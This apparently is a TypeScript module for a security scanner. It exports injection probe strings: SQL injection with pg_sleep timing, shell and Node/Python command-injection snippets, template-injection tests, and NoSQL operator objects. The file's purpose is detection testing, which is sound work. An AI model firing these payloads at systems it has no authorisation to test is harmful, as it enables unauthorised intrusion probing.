/** How long a payload that reaches an interpreter holds it up: longer than a busy machine takes for any answer. */
export const SLEEP_SECONDS = 8;

/** Pieces of text that mean something to an interpreter behind the platform; none of them is a value of any other field. */
export const PAYLOADS = {
  sql: [
    `'`,
    `"`,
    `\\`,
    `');--`,
    `' OR '1'='1`,
    `' AND '1'='2`,
    `" OR ""="`,
    `1) OR (1=1`,
    `' UNION SELECT null, version(), null--`,
    `' AND 1=CAST(version() AS int)--`,
    `name;SELECT 1/0`,
    `(SELECT 1/0)`,
    `'||pg_sleep(${SLEEP_SECONDS})||'`,
    `';SELECT pg_sleep(${SLEEP_SECONDS})--`,
    `name,(SELECT pg_sleep(${SLEEP_SECONDS}))`,
    `$$;SELECT pg_sleep(${SLEEP_SECONDS});$$`,
  ],
  command: [
    `$(sleep ${SLEEP_SECONDS})`,
    `\`sleep ${SLEEP_SECONDS}\``,
    `;sleep ${SLEEP_SECONDS};`,
    `|sleep ${SLEEP_SECONDS}`,
    `&& sleep ${SLEEP_SECONDS} #`,
    `7*7`,
    `1+process.uptime()`,
    `__import__("os").system("sleep ${SLEEP_SECONDS}")`,
    `require("child_process").execSync("sleep ${SLEEP_SECONDS}")`,
    `constructor.constructor("return process")().version`,
  ],
  template: [
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '[[7*7]]',
    '{%print(7*7)%}',
    '{{constructor.constructor("return 7*7")()}}',
    '%{7*7}',
    '%s%n%x%d',
  ],
} as const;

/** A kind of interpreter. */
export type PayloadKind = keyof typeof PAYLOADS;

/** Values that a database of documents takes for a condition, where a text belongs. */
export const OPERATORS: readonly unknown[] = [
  { $ne: null },
  { $regex: '.*' },
  { $where: 'sleep(3000)' },
  { __gt: '' },
  ['a', 'b'],
  true,
  7,
];
